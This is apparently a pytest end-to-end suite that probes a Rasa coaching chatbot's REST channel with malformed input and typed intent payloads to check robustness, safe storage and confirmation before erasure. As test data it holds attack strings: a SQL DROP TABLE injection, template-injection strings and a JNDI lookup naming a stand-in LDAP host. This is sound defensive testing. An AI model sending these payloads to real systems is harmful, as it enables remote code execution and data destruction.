"""Bad input straight into Rasa's REST channel, against the real Rasa and action servers.

Nothing stands between these messages and Rasa (the front ends' cleaning is skipped), so the
actions themselves must cope: each message gets a clear reply, the servers keep answering,
and the record holds exactly what it should — the person's words, cleaned of what cannot be
stored, and an ordinary answer given afterwards.
"""

from __future__ import annotations

import json
import re
import unicodedata

import httpx
import pytest

from bot.coaching.answers import LONG_ANSWER_REPLY
from bot.coaching.text import plain

pytestmark = pytest.mark.e2e

FIRST_QUESTION = "What's your best hope from this assessment?"
GARDEN = "I'd like to get back out in my garden"
GARDEN_DRAFT = f"“{GARDEN}”"
NO_WORDS = "I didn't catch any words there."
HUGE = ("I love my garden and my cat. " * 3600)[:100_000]

# (id, what is sent, what the first reply starts with or None, whether it is stored)
CASES = [
    ("emoji-only", "😀🎉👍🏽👨\u200d👩\u200d👧", NO_WORDS, False),
    ("zero-width-only", "\u200b\u200d\ufeff\u2060", NO_WORDS, False),
    ("huge", HUGE, LONG_ANSWER_REPLY, False),
    ("right-to-left", "أريد أن أعود إلى حديقتي", None, True),
    ("bidi-override", "\u202eI want to see my sister again\u202c", None, True),
    ("control-characters", "I want\x00 to see\x07 my sister\u200b again\x1b[0m", None, True),
    ("lone-surrogate", "I want \ud83d to see my sister again", None, True),
    ("html", "<b>I want</b> to see my <i>sister</i> again & <a href='x'>go</a>", None, True),
    ("markdown", "*I want* to get _back_ to my [allotment](http://x) `now`", None, True),
    ("sql-injection", "'; DROP TABLE person; --", None, True),
    ("template-injection", "{{7*7}} ${7*7} I want {slot} to see my {0[x]} son {draft}", None, True),
    ("format-trap", "I want to see 0[ my son again", None, True),
    ("jndi", "${jndi:ldap://example.invalid/a}", None, True),
]
IDS = [case[0] for case in CASES]


def post(bot, sender: str, message: str) -> list[dict]:
    """Post like ``bot.say``, but JSON-escaped, so a lone surrogate can be sent as JSON allows."""
    response = httpx.post(
        f"{bot.settings.rasa_url}/webhooks/rest/webhook",
        content=json.dumps({"sender": sender, "message": message}),
        headers={"Content-Type": "application/json"},
        timeout=60,
    )
    response.raise_for_status()
    return response.json()


def assert_clear(replies: list[dict]) -> None:
    """At least one message; every message has words, no control characters, no template."""
    assert replies, "no reply at all"
    for reply in replies:
        text = reply.get("text") or ""
        assert re.search(r"\w", text), reply
        assert not any(unicodedata.category(c) == "Cc" and c not in "\n\t" for c in text)
        # Rasa sends a response's raw template when filling it goes wrong.
        assert not re.fullmatch(r"\{\w+\}", text) and "{whom}" not in text, text


def buttons(reply: dict) -> list[str]:
    return [button["payload"] for button in reply.get("buttons") or []]


@pytest.mark.parametrize(("name", "message", "first", "stored"), CASES, ids=IDS)
def test_bad_input_at_the_start_gets_a_clear_reply(bot, name, message, first, stored) -> None:
    sender = f"bad-start-{name}"
    assert_clear(post(bot, sender, message))
    # The conversation is not broken: the welcome still comes.
    welcome = bot.say(sender, "hello")
    assert "Outcomes Coach" in welcome[0]["text"]
    assert buttons(welcome[-1]) == ["/affirm", "/deny"]


@pytest.mark.parametrize(("name", "message", "first", "stored"), CASES, ids=IDS)
def test_bad_answer_gets_a_clear_reply_and_the_next_answer_is_kept(
    bot, name, message, first, stored
) -> None:
    sender = f"bad-answer-{name}"
    assert bot.begin(sender)[-1] == FIRST_QUESTION

    replies = post(bot, sender, message)

    assert_clear(replies)
    if first is not None:
        assert replies[0]["text"].startswith(first)
    if buttons(replies[-1]) == ["/affirm", "/reword", "/deny"]:
        # A draft from the bad answer: its quote is the person's words, never a template.
        assert "“" in replies[-1]["text"]
        bot.say(sender, "/deny")  # leave it out, and go on
    after = bot.say(sender, GARDEN)
    assert GARDEN_DRAFT in after[-1]["text"], "the conversation carried on"

    record = bot.export("rest", sender)
    expected = [plain(message), GARDEN] if stored else [GARDEN]
    assert [answer["text"] for answer in record["answers"]] == expected
    assert all("\x00" not in o["statement"] for o in record["outcomes"])
    assert record["outcomes"][-1]["statement"] == GARDEN


@pytest.mark.parametrize("message", ["", "   \n\t  "], ids=["empty", "whitespace"])
def test_a_message_without_characters_gets_a_reply_and_the_next_answer_is_kept(
    bot, message: str
) -> None:
    # Rasa's NLU must cope with a message it cannot tokenise (the front ends never send one,
    # but the REST channel takes anything).
    sender = f"bad-blank-{len(message)}"
    assert_clear(bot.say(sender, message))
    bot.begin(sender)
    replies = bot.say(sender, message)
    assert_clear(replies)
    assert replies[0]["text"].startswith(NO_WORDS)
    assert GARDEN_DRAFT in bot.say(sender, GARDEN)[-1]["text"]
    assert [a["text"] for a in bot.export("rest", sender)["answers"]] == [GARDEN]


def test_a_long_answer_still_gets_the_risk_reply(bot) -> None:
    sender = "bad-long-risk"
    bot.begin(sender)
    long_disclosure = HUGE + " My husband hits me and I am scared to go home."

    replies = bot.texts(sender, long_disclosure)

    assert "999" in " ".join(replies)  # never lost in a long message
    assert LONG_ANSWER_REPLY not in replies
    assert bot.export("rest", sender)["risk_flag"] is True


def test_a_long_rewording_is_not_kept_as_the_statement(bot) -> None:
    sender = "bad-long-wording"
    bot.begin(sender)
    bot.say(sender, GARDEN)

    asked = bot.texts(sender, "I want to " + "get out into the garden and " * 40 + "rest")

    assert asked[0].startswith("That's quite long for one thing that matters")
    assert asked[-1] == "How would you put it, in your own words?"
    kept = bot.texts(sender, "I want to potter in my garden")
    assert kept[0] == "Lovely, I've saved that."
    [outcome] = bot.export("rest", sender)["outcomes"]
    assert outcome["statement"] == "I want to potter in my garden"
    assert outcome["status"] == "confirmed"


def test_typed_intents_cannot_erase_or_change_anything_without_the_yes(bot) -> None:
    sender = "bad-typed-intents"
    bot.begin(sender)
    bot.say(sender, GARDEN)
    assert bot.texts(sender, "/affirm")[-1] == "Why does that matter to you?"

    # Inside a question: a payload typed with entities asks first, like /delete.
    asked = bot.say(sender, '/delete{"confirm":"yes","confirming":"delete"}')
    assert asked[-1]["text"].startswith("Erase everything I keep about you")
    # Anything but a yes keeps things as they are, even a typed button payload.
    kept = bot.texts(sender, '/choose{"choice":"worker"}')
    assert kept[0] == "Alright, we'll carry on where we were."
    assert_clear(bot.say(sender, "/stop"))

    # Outside a question: a yes nobody asked for, an entity naming the confirm slot, an
    # action's name typed as an intent, and Rasa's own intents.
    for typed in ("/affirm", '/affirm{"confirming":"delete"}', '/affirm{"consent":true}'):
        assert_clear(bot.say(sender, typed))
    asked = bot.say(sender, "/action_delete_data")
    assert asked[-1]["text"].startswith("Erase everything I keep about you")
    assert bot.texts(sender, "/deny") == ["Alright, nothing has changed."]

    record = bot.export("rest", sender)
    assert [a["text"] for a in record["answers"]] == [GARDEN]
    assert [o["status"] for o in record["outcomes"]] == ["confirmed"]
    assert record["role"] == "self"

    # The real confirm still works: asked, then yes.
    assert bot.say(sender, "/delete")[-1]["text"].startswith("Erase everything")
    assert "erased" in bot.texts(sender, "/affirm")[0]
    assert bot.export("rest", sender)["answers"] == []


def test_a_typed_consent_payload_stores_nothing(bot) -> None:
    sender = "bad-typed-consent"
    assert_clear(bot.say(sender, '/affirm{"consent":true}'))
    assert_clear(bot.say(sender, '/choose{"choice":"self"}'))
    assert_clear(bot.say(sender, GARDEN))

    record = bot.export("rest", sender)
    assert record["consented_at"] is None and record["answers"] == []
